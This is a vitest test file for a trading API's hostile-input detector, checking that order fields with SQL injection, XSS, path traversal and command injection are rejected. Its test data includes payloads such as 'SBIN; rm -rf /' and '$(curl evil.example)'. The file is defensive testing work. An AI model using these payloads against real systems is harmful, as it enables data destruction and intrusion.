import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileKind } from '../../src/http/plugins/hostile-input.plugin.js';
import { startTestApp, type TestApp } from '../support/harness.js';

const order = {
  strategy: 'my strategy v2',
  exchange: 'NSE',
  symbol: 'SBIN',
  action: 'BUY',
  quantity: 1,
  pricetype: 'MARKET',
  product: 'MIS',
};

describe('hostile-pattern detection', () => {
  it('lets legitimate symbols and names through', () => {
    for (const v of [
      'M&M',
      'BAJAJ-AUTO',
      'NIFTY28NOV2424000CE',
      'my strategy (v2)',
      'L&TFH',
      'Nifty 50',
      'a-b_c.d:e',
    ])
      expect(hostileKind(v), v).toBeNull();
  });

  it('recognises SQL injection, XSS, path traversal and command injection', () => {
    expect(hostileKind("SBIN' OR '1'='1")).toBe('SQL injection');
    expect(hostileKind('1; DROP TABLE orders')).toBe('SQL injection');
    expect(hostileKind('x UNION SELECT password FROM users')).toBe('SQL injection');
    expect(hostileKind('<script>alert(1)</script>')).toBe('cross-site scripting');
    expect(hostileKind('javascript:alert(1)')).toBe('cross-site scripting');
    expect(hostileKind('../../etc/passwd')).toBe('path traversal');
    expect(hostileKind('..\\..\\windows')).toBe('path traversal');
    expect(hostileKind('SBIN; rm -rf /')).toBe('command injection');
    expect(hostileKind('$(curl evil.example)')).toBe('command injection');
  });
});

describe('hostile input on /api/v1', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ ipBans: { enabled: false }, httpSecurity: { jsonMaxDepth: 8 } });
  });
  afterAll(async () => t.close());

  it('rejects a hostile symbol with 400 naming the field, and records it', async () => {
    const r = await t.post('/api/v1/placeorder', { apikey: t.apiKey, ...order, symbol: "SBIN' OR '1'='1" });
    expect(r.status).toBe(400);
    expect(r.body).toEqual({
      status: 'error',
      message: 'symbol: rejected, the value looks like SQL injection',
    });
    const metric = await t.server.metrics.securityEvents.get();
    expect(metric.values.find((v) => v.labels.type === 'hostile_input')?.value).toBeGreaterThanOrEqual(1);
  });

  it('names nested fields', async () => {
    const r = await t.post('/api/v1/basketorder', {
      apikey: t.apiKey,
      strategy: 's',
      orders: [order, { ...order, exchange: '<img src=x onerror=alert(1)>' }],
    });
    expect(r.status).toBe(400);
    expect(r.body.message).toBe('orders[1].exchange: rejected, the value looks like cross-site scripting');
  });

  it('accepts legitimate values with punctuation', async () => {
    const r = await t.post('/api/v1/placeorder', { apikey: t.apiKey, ...order, symbol: 'M&M' });
    expect(r.status).toBe(200);
    const q = await t.post('/api/v1/quotes', { apikey: t.apiKey, exchange: 'NSE', symbol: 'BAJAJ-AUTO' });
    expect(q.status).toBe(200);
  });

  it('rejects JSON nested deeper than the limit with 400', async () => {
    let deep: unknown = 1;
    for (let i = 0; i < 20; i++) deep = { a: deep };
    const r = await t.post('/api/v1/placeorder', { apikey: t.apiKey, ...order, extra: deep });
    expect(r.status).toBe(400);
    expect(r.body.message).toBe('body: JSON nested deeper than 8 levels');
    const raw = await t.server.app.inject({
      method: 'POST',
      url: '/api/v1/funds',
      headers: { 'content-type': 'application/json' },
      payload: `${'['.repeat(5000)}${']'.repeat(5000)}`,
    });
    expect(raw.statusCode).toBe(400);
  });
});
